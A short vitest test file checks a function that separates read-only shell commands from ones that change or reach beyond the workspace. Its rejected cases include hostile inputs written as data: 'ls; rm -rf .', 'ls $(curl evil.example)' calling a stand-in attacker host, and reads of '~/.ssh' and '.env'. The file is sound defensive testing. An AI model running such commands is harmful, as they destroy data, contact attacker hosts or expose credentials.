import { describe, expect, it } from 'vitest';
import { onlyLooks } from './only-looks.ts';

describe('commands that only look', () => {
  it.each(['ls -la src', 'pwd', 'date', 'git status', 'git diff --stat', 'git log --oneline -5', 'wc -l notes.md'])(
    'lets %s pass',
    (command) => {
      expect(onlyLooks(command)).toBe(true);
    },
  );

  it.each([
    'ls; rm -rf .',
    'ls $(curl evil.example)',
    'ls ~/.ssh',
    'ls /etc',
    'ls ../other',
    'wc .env',
    'git diff --output=notes.md',
    'git diff --ext-diff',
    'git branch -D main',
    'git push',
    'date -s 12:00',
    'hostname other',
    'tree -o listing.txt',
    'cat notes.md',
  ])('does not take %s for a look', (command) => {
    expect(onlyLooks(command)).toBe(false);
  });
});
